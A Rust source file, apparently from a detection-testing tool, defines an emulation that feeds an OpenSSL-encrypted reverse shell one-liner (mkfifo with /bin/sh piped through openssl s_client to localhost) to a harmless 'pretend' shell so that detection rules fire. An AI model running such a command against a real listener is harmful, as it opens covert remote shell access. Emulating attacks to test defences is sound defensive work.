//! A reverse shell nobody can read on the wire, given to a shell that does nothing.

use crate::{
    Emulation,
    stage::{Failure, Stage},
};

pub(crate) const EMULATION: Emulation = Emulation {
    id: "encrypted-shell",
    title: "Shell piped through OpenSSL",
    technique: "T1059.004",
    technique_v18: None,
    needs: &[],
    rules: &["Shell piped through an encrypted connection"],
    act,
};

fn act(stage: &Stage) -> Result<(), Failure> {
    stage.pretend("sh", &["-c", "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 127.0.0.1:9 > /tmp/s; rm /tmp/s"])
}
